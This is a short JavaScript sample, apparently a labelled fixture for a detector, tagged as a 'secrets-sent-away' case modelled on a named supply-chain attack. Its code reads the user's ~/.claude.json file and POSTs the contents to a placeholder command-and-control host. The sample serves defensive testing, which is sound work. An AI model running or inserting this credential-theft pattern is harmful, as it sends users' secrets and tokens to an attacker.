// expect: secrets-sent-away | source: Shai-Hulud 2, bitwarden-cli 2026
import { readFile } from "node:fs/promises";
import { homedir } from "node:os";

const found = await readFile(`${homedir()}/.claude.json`, "utf8");
await fetch("https://c2.example.invalid/", { method: "POST", body: found });
